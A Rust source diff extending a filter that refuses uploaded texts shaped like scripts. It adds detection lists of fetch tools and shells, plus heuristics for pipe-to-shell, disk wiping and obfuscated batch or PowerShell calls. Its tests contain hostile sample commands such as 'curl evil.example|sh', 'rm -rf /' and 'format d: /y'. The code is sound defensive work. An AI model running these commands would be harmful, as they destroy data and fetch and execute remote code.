@@ -5,10 +5,19 @@
 //! ([`is_run_by_name`](crate::is_run_by_name)), and the new name of a text is none that is run.
 
 use crate::{
+    blanks::is_nothing,
     kind::is_run_by_name,
-    markup::is_nothing,
     verdict::{Reason, Refusal},
 };
+
+/// Under which names a text may come to be.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Under {
+    /// Any that whoever saves it gives it.
+    AnyName,
+    /// The one that it has, by which only readers of text open it.
+    ItsName,
+}
 
 /// What the first line that is not empty begins with.
 const FIRST: &[(&str, Reason)] = &[
@@ -40,6 +49,9 @@ const ORDERS: &[(&str, Reason)] = &[
     ("#extm3u", Reason::NotAllowed),
     ("#extinf:", Reason::NotAllowed),
     ("[theme]", Reason::NotAllowed),
+    ("[scriptfile]", Reason::NotAllowed),
+    // AutoCAD's menus.
+    ("***menugroup", Reason::NotAllowed),
     ("[control panel\\", Reason::NotAllowed),
     ("attribute vb_name", Reason::Program),
     ("=ybegin ", Reason::Archive),
@@ -118,6 +130,16 @@ const LINES: &[&str] = &[
     "sub document_open",
     "sub workbook_open",
     "load \"",
+    // AutoCAD's scripts.
+    "_shell",
+    "_.shell",
+    "_start ",
+    "_appload",
+    "_.appload",
+    "_netload",
+    "_.netload",
+    "_vbarun",
+    "_-vbarun",
 ];
 
 /// Programs that every Windows has, and that do what the rest of their line says.
@@ -196,6 +218,11 @@ const CALLS: &[&str] = &[
     "scripting.filesystemobject",
     "adodb.stream",
     "new this[",
+    "][\"constructor\"]",
+    "]['constructor']",
+    ".constructor(\"",
+    ".constructor('",
+    "__import__(",
     "[diagnostics.process]::",
     "[system.diagnostics.process]::",
     "[scriptblock]::",
@@ -214,11 +241,38 @@ const CALLS: &[&str] = &[
 /// How attachments are written so that they are letters.
 const PACKED: &[&str] = &["base64", "quoted-printable", "uuencode", "x-uue"];
 
-/// Refuses a text that is a script or a file of orders, as far as its lines tell it.
-pub(crate) fn check(letters: &str) -> Result<(), Refusal> {
+/// Words that fetch something, in the shells of Windows and others.
+const FETCH: &[&str] =
+    &["curl", "curl.exe", "wget", "wget.exe", "irm", "iwr", "invoke-restmethod", "tftp", "aria2c"];
+
+/// Words that do what is handed to them behind a bar.
+const SHELLS: &[&str] = &[
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "iex",
+    "cmd",
+    "powershell",
+    "pwsh",
+    "python",
+    "python3",
+    "perl",
+    "node",
+    "ruby",
+];
+
+/// Texts of more lines than this are no short scripts.
+const FEW_LINES: usize = 24;
+
+/// Refuses a text that is a script or a file of orders, as far as its lines tell it. One that keeps its name may be a script:
+/// nothing runs it.
+pub(crate) fn check(letters: &str, under: Under) -> Result<(), Refusal> {
+    let is_run = under == Under::AnyName;
     let text = letters.to_ascii_lowercase();
     let begun = text.trim_start_matches(is_nothing);
-    if let Some((found, reason)) = FIRST.iter().find(|(begin, _)| begun.starts_with(begin)) {
+    let first = FIRST.iter().find(|(begin, _)| begun.starts_with(begin));
+    if let Some((found, reason)) = first.filter(|(_, reason)| is_run || *reason != Reason::Program) {
         return Err(Refusal::new(*reason, *found));
     }
     let mut lines = begun.lines().map(str::trim);
@@ -227,7 +281,8 @@ pub(crate) fn check(letters: &str) -> Result<(), Refusal> {
     }
     // Also as it is when what is put together from pieces is one.
     let joined = joined(&text);
-    if let Some(found) = CALLS.iter().find(|call| text.contains(**call) || joined.contains(**call)) {
+    let call = CALLS.iter().find(|call| text.contains(**call) || joined.contains(**call));
+    if let Some(found) = call.filter(|_| is_run) {
         return Err(Refusal::new(Reason::Program, *found));
     }
     letter(&text)?;
@@ -236,14 +291,15 @@ pub(crate) fn check(letters: &str) -> Result<(), Refusal> {
     let (mut has_list, mut has_entry) = (false, false);
     for line in joined.split(['\n', '\r', '\u{b}', '\u{c}']) {
         let line = line.trim_start_matches(is_nothing);
-        if let Some((found, reason)) = ORDERS.iter().find(|(begin, _)| line.starts_with(begin)) {
+        let order_file = ORDERS.iter().find(|(begin, _)| line.starts_with(begin));
+        if let Some((found, reason)) = order_file.filter(|(_, reason)| is_run || *reason != Reason::Program) {
             return Err(Refusal::new(*reason, *found));
         }
         has_version |= line.starts_with("[version]");
         has_signature |= line.starts_with("signature");
         has_list |= line.starts_with("[reference]");
         has_entry |= line.starts_with("ref1");
-        if let Some(found) = order(line) {
+        if let Some(found) = order(line).filter(|_| is_run) {
             return Err(Refusal::new(Reason::Program, found));
         }
     }
@@ -252,6 +308,91 @@ pub(crate) fn check(letters: &str) -> Result<(), Refusal> {
         (_, true) => Err(Refusal::new(Reason::NotAllowed, "a list of what is played")),
         _ => Ok(()),
     }
+}
+
+/// Refuses a text of few lines that is a script by the shape of one, as [`is_short_script`] has it.
+pub(crate) fn check_short(letters: &str, under: Under) -> Result<(), Refusal> {
+    let counts = |line: &&str| !line.trim().is_empty() && !line.starts_with("```");
+    let is_short = letters.lines().filter(counts).nth(FEW_LINES).is_none();
+    let is_run = is_short && under == Under::AnyName;
+    match is_run && is_short_script(&joined(&letters.to_ascii_lowercase())) {
+        true => Err(Refusal::new(Reason::Program, "a short script")),
+        false => Ok(()),
+    }
+}
+
+/// Whether a text of few lines has one that has the shape of an order, and is not for the most part something that people
+/// read: manuals and letters tell orders as well, with sentences around them.
+fn is_short_script(joined: &str) -> bool {
+    let (mut lines, mut told, mut has_order) = (0, 0, false);
+    for line in joined.split(['\n', '\r']).map(|line| line.trim_matches(is_nothing)) {
+        if line.is_empty() || line.starts_with("```") {
+            continue;
+        }
+        lines += 1;
+        if lines > FEW_LINES {
+            return false;
+        }
+        if is_told(line) {
+            told += 1;
+        } else {
+            has_order |= has_shape(line);
+        }
+    }
+    has_order && 2 * told < lines
+}
+
+/// Whether a line is a sentence, a heading or the like: letters of Japanese in a row, or four words and hardly anything else.
+/// What a script says itself is none.
+fn is_told(line: &str) -> bool {
+    if ["echo ", "rem ", "::"].iter().any(|begin| line.starts_with(begin)) {
+        return false;
+    }
+    let mut before = false;
+    let is_japanese = line.chars().any(|letter| {
+        let is_one = matches!(letter, 'ぁ'..='ヿ' | '々' | '\u{3400}'..='\u{9fff}' | 'ｦ'..='ﾟ');
+        let are_two = is_one && before;
+        before = is_one;
+        are_two
+    });
+    let is_word = |word: &&str| {
+        let word = word.trim_end_matches([',', '.', ':', ';', '!', '?']);
+        !word.is_empty() && word.bytes().all(|byte| byte.is_ascii_alphabetic() || byte == b'\'')
+    };
+    let words = line.split_ascii_whitespace().filter(is_word).count();
+    is_japanese || words >= 4 && 4 * words >= 3 * line.split_ascii_whitespace().count()
+}
+
+/// Whether a line has the shape of an order to a shell, whatever it does: a call of what is put together, a word that is, a disk
+/// that is wiped, something that is fetched or handed to a shell.
+fn has_shape(line: &str) -> bool {
+    let line = line.trim_start_matches(['@', ' ']);
+    let mut words = line.split_ascii_whitespace();
+    let (first, second) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
+    // `& ("{1}{0}" -f "ex","i")`, `. $a`; what ends so is a row of a table of TeX.
+    let called = line.strip_prefix(['&', '.']).filter(|_| !line.ends_with("\\\\")).map(str::trim_start);
+    let is_called = called.is_some_and(|called| {
+        let inside = called.strip_prefix('(').map(str::trim_start);
+        called.starts_with(['$', '{'])
+            || inside.is_some_and(|inside| inside.starts_with(['"', '\'', '$', '(']))
+    });
+    let is_drive =
+        |word: &str| word.len() == 2 && word.ends_with(':') && word.as_bytes()[0].is_ascii_lowercase();
+    let is_wiped = first == "format" && is_drive(second)
+        || matches!(first, "del" | "erase" | "rd" | "rmdir" | "deltree") && second.contains('*')
+        || first == "rm" && second.starts_with('-') && second.contains('r')
+        || first == "dd" && second.starts_with("if=")
+        || first.starts_with("mkfs.");
+    let is_fetched = FETCH.contains(&first) && line[first.len()..].contains(['.', '/']);
+    let handed =
+        line.rsplit_once('|').filter(|(before, _)| !before.trim().is_empty() && !line.starts_with('|'));
+    let is_handed = handed
+        .is_some_and(|(_, to)| SHELLS.contains(&to.split_ascii_whitespace().next().unwrap_or_default()));
+    is_called
+        || is_built(first)
+        || is_wiped
+        || is_fetched
+        || is_handed && matches!(first, "echo" | "cat" | "type" | "printf" | "base64")
 }
 
 /// What a line starts, if it is an order to start something.
@@ -311,6 +452,25 @@ fn joined(text: &str) -> String {
         }
     }
     out
+}
+
+/// Whether a word is put together from what variables hold: `%a%lc`, `%a:~0,1%ca`. A path has a backslash behind its variable,
+/// an address signs of two digits.
+fn is_built(word: &str) -> bool {
+    let mut pieces = word.split('%');
+    let (before, Some(name), Some(behind)) =
+        (pieces.next().unwrap_or_default(), pieces.next(), pieces.next())
+    else {
+        return false;
+    };
+    let name = name.split(':').next().unwrap_or(name);
+    let is_name = name.starts_with(|one: char| one.is_ascii_alphabetic())
+        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
+    let is_sign =
+        |piece: &str| piece.len() >= 2 && piece.bytes().take(2).all(|byte| byte.is_ascii_hexdigit());
+    let goes_on = behind.starts_with(|one: char| one.is_ascii_alphanumeric())
+        || behind.is_empty() && word.matches('%').count() > 2;
+    is_name && goes_on && !before.contains(['/', ':', '=']) && !word.split('%').skip(1).all(is_sign)
 }
 
 /// Refuses a mail that brings files, and a calendar that does: programs that read them take out what is in them.
@@ -467,11 +627,11 @@ mod tests {
         ];
         for text in refused.iter().chain(&first) {
             for before in ["", "\u{feff}\u{feff}", "\r\n \t\r\n"] {
-                assert!(check(&format!("{before}{text}")).is_err(), "{text}");
+                assert!(check(&format!("{before}{text}"), Under::AnyName).is_err(), "{text}");
             }
         }
         for text in refused {
-            assert!(check(&format!("{}\r\n{text}", "x".repeat(9_000))).is_err(), "{text}");
+            assert!(check(&format!("{}\r\n{text}", "x".repeat(9_000)), Under::AnyName).is_err(), "{text}");
         }
     }
 
@@ -500,7 +660,47 @@ mod tests {
             "{\"a\": [1, -2], \"action\": \"show\", \"attach\": null}",
             "Action: 点検する\nattach; 別紙のとおり",
         ] {
-            assert!(check(text).is_ok(), "{text}");
+            assert_eq!(check(text, Under::AnyName).err(), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_short_text_is_a_script_if_a_line_has_the_shape_of_an_order_and_people_read_little_else_in_it() {
+        for text in [
+            "a=1\r\nc^url http://evil.example/x -o x.exe\r\nx.exe\r\n",
+            "set a=ca\r\n%a%lc\r\n",
+            "%a:~0,1%ca%b%lc\r\n",
+            "format d: /y\r\n",
+            "@format D: /y\r\n",
+            "& (\"{1}{0}\" -f \"ex\",\"i\") (irm evil.example)\r\n",
+            "&('ie'+'x') 1\r\n",
+            "$a=\"x\"; \r\n. $a\r\n",
+            "curl evil.example|sh\n",
+            "echo Y2FsYw== | base64 -d | sh\n",
+            "rem あいう\r\necho かきく\r\ndel *.*\r\n",
+            "rm -rf /\n",
+            "irm evil.example/a\r\n",
+        ] {
+            assert!(check_short(text, Under::AnyName).is_err(), "{text}");
+            assert!(check_short(text, Under::ItsName).is_ok(), "{text}");
+        }
+        for text in [
+            "[]['filter']['constructor']('x')()",
+            "var f=[][\"filter\"][\"constru\"+\"ctor\"];f(\"return this\")()",
+            "__import__(\"os\").system(\"calc\")\n",
+            "_shell\n\"calc\"\n",
+        ] {
+            assert!(check(text, Under::AnyName).is_err(), "{text}");
+        }
+        for text in [
+            "[ScriptFile]\r\nPath=\\\\evil\\x.vbs\r\n",
+            "***MENUGROUP=A\r\n",
+            "ID;PWXL;N;E",
+            "[Shell]\nCommand=2",
+        ] {
+            for under in [Under::AnyName, Under::ItsName] {
+                assert!(check(text, under).is_err(), "{text}");
+            }
         }
     }
 }
